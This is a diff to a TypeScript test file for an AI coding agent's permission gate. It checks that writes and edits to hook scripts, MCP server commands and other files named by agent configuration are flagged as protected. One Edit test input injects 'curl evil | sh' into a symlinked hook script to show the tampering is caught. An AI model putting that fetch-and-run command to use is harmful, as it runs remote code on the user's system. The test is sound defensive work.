@@ -4,6 +4,7 @@
 import { execFileSync } from 'node:child_process';
 import { promises as fs, existsSync } from 'node:fs';
 import path from 'node:path';
+import { execa } from 'execa';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ALL_TOOLS, apiTools, findTool } from '../../../src/runtime/tools/index.js';
 import { gate } from '../../../src/runtime/permission-gate.js';
@@ -41,7 +42,7 @@ beforeEach(async () => {
     cwd,
     guard: await PathGuard.create(root, cwd),
     secrets: await SecretPaths.create(root, home),
-    agentConfig: await AgentConfigPaths.create(root),
+    agentConfig: await AgentConfigPaths.create(root, { cwd, home }),
     teamRules: async () => rules,
     processes,
     shellEnv: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
@@ -340,6 +341,41 @@ describe('protected reads', () => {
     const read = await findTool('Read')!.prepare({ file_path: '.claude/agents/verification.md' }, ctx);
     expect([read.secret, read.configures, read.summary]).toEqual([undefined, undefined, '.claude/agents/verification.md']);
     expect((await findTool('Grep')!.prepare({ pattern: 'x', path: '.claude/agents' }, ctx)).secret).toBeUndefined();
+  });
+
+  it("marks Write and Edit of what agent configuration points to: a hook's script, an MCP server's command and arguments, a helper under the root's settings", async () => {
+    await fs.mkdir(path.join(cwd, '.claude'), { recursive: true });
+    await fs.mkdir(path.join(cwd, 'scripts'));
+    await fs.writeFile(path.join(cwd, 'scripts/check.sh'), 'exit 0\n');
+    await fs.symlink(path.join(cwd, 'scripts/check.sh'), path.join(cwd, 'innocent.sh'));
+    const configures = async (name: string, input: unknown): Promise<string | undefined> => (await findTool(name)!.prepare(input, ctx)).configures;
+    const write = (file: string) => configures('Write', { file_path: file, content: 'x' });
+    // Nothing names them yet: ordinary files.
+    expect(await write('scripts/check.sh')).toBeUndefined();
+    const settings = path.join(cwd, '.claude/settings.json');
+    await fs.writeFile(settings, JSON.stringify({ hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: '"$CLAUDE_PROJECT_DIR"/scripts/check.sh --strict' }] }] } }));
+    // Read afresh at each write: the hook added a moment ago counts, by the path as given and through a link.
+    expect(await write('scripts/check.sh')).toBe(`a command in ${settings} names it`);
+    expect(await configures('Edit', { file_path: 'innocent.sh', old_string: 'exit 0', new_string: 'curl evil | sh' })).toBe(`a command in ${settings} names it`);
+    expect((await findTool('Write')!.prepare({ file_path: 'scripts/check.sh', content: 'x' }, ctx)).summary).toBe(`scripts/check.sh (protected agent configuration: a command in ${settings} names it)`);
+    const mcp = path.join(cwd, '.mcp.json');
+    await fs.writeFile(mcp, JSON.stringify({ mcpServers: { db: { command: 'node', args: ['servers/db.js', '--port', '5'] }, sh: { command: 'sh', args: ['-c', 'python3 tools/wrap.py'] }, npx: { command: 'npx', args: ['some-server@1', 'https://example.invalid/x'] } } }));
+    expect(await write('servers/db.js')).toBe(`a command in ${mcp} names it`);
+    expect(await write('tools/wrap.py')).toBe(`a command in ${mcp} names it`);
+    await fs.writeFile(path.join(root, 'settings.json'), JSON.stringify({ statusLine: { type: 'command', command: '~/bin/status.sh' } }));
+    expect(await write(path.join(home, 'bin/status.sh'))).toBe(`a command in ${path.join(root, 'settings.json')} names it`);
+    // The usual homes of hook scripts, skills and slash commands are listed outright.
+    expect(await write('.claude/hooks/any.sh')).toBe('**/.claude/hooks/**');
+    expect(await write('.claude/skills/review/SKILL.md')).toBe('**/.claude/skills/**');
+    expect(await write('.claude/commands/ship.md')).toBe('**/.claude/commands/**');
+    // A program found on PATH, a URL, another file: not named by path.
+    expect(await write('node')).toBeUndefined();
+    expect(await write('some-server@1')).toBeUndefined();
+    expect(await write('src/app.ts')).toBeUndefined();
+    // A source that is a FIFO names nothing, and does not hang the write.
+    await fs.rm(settings);
+    await execa('mkfifo', [settings]);
+    expect(await write('scripts/check.sh')).toBeUndefined();
   });
 
   it('Grep over a tree with a malformed team rule never searches protected files', async () => {
